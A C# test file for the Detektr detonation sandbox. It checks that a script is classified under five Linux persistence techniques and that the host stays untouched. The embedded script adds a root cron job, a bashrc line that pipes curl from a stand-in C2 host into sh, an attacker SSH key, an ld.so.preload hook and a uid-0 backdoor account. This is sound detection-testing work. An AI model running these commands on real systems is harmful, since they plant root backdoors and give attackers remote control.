using Detektr.Detonation;
using Detektr.Events;
using Detektr.Tests.TestSupport;

namespace Detektr.Tests.Detonation;

public sealed class PersistenceDetonationTests : IDisposable
{
    private static readonly string[] HostFiles = ["/etc/passwd", "/etc/shadow", "/root/.bashrc", "/etc/hostname"];
    private static readonly string[] HostAbsent = ["/etc/cron.d/updater", "/etc/ld.so.preload", "/root/.ssh/authorized_keys.detektr-test"];

    private readonly TemporaryDirectory _store = new();

    public void Dispose() => _store.Dispose();

    [Fact]
    public async Task Cron_bashrc_ssh_key_preload_and_account_are_classified_and_the_host_is_unchanged()
    {
        var before = HostFiles.Where(File.Exists).ToDictionary(f => f, f => Sha256Hash.OfFile(f));
        Assert.All(HostAbsent, f => Assert.False(File.Exists(f), $"{f} must not exist on the host before the test"));
        var script = _store.Script("persist.sh", """
            #!/bin/sh
            echo '*/5 * * * * root /tmp/.x/run' > /etc/cron.d/updater
            echo 'curl -s http://c2.example.net/s | sh' >> /root/.bashrc
            mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3Nza attacker@c2' >> /root/.ssh/authorized_keys
            echo /tmp/.x/libhook.so > /etc/ld.so.preload
            echo 'sysd:x:0:0::/root:/bin/sh' >> /etc/passwd
            """);

        var run = await Sandboxes.RunAsync(_store, DetonationRequest.ForArtifact(script));

        var findings = run.Manifest.Persistence.ToDictionary(f => f.Path);
        Assert.Equal("T1053.003", findings["/etc/cron.d/updater"].Technique);
        Assert.Equal("T1546.004", findings["/root/.bashrc"].Technique);
        Assert.Equal("T1098.004", findings["/root/.ssh/authorized_keys"].Technique);
        Assert.Equal("T1574.006", findings["/etc/ld.so.preload"].Technique);
        Assert.Equal(("T1136.001", "new account(s): sysd"), (findings["/etc/passwd"].Technique, findings["/etc/passwd"].Detail));
        Assert.Equal(5, run.Manifest.Counts.PersistenceFindings);
        var preloadEvent = run.Of<FileEvent>().Single(f => f.TargetFilename == "/etc/ld.so.preload");
        Assert.Equal([preloadEvent.Sequence.Value], findings["/etc/ld.so.preload"].EventSequences);
        Assert.Equal(FileOperation.Write, run.Of<FileEvent>().Single(f => f.TargetFilename == "/root/.bashrc").Operation);
        Assert.Equal(FileOperation.Create, run.Of<FileEvent>().Single(f => f.TargetFilename == "/etc/cron.d/updater").Operation);
        Assert.Contains("sysd:x:0:0", File.ReadAllText(Path.Combine(run.Directory, "files", "etc", "passwd")), StringComparison.Ordinal);

        Assert.Equal(before, HostFiles.Where(File.Exists).ToDictionary(f => f, f => Sha256Hash.OfFile(f)));
        Assert.All(HostAbsent, f => Assert.False(File.Exists(f), $"{f} leaked onto the host"));
    }
}
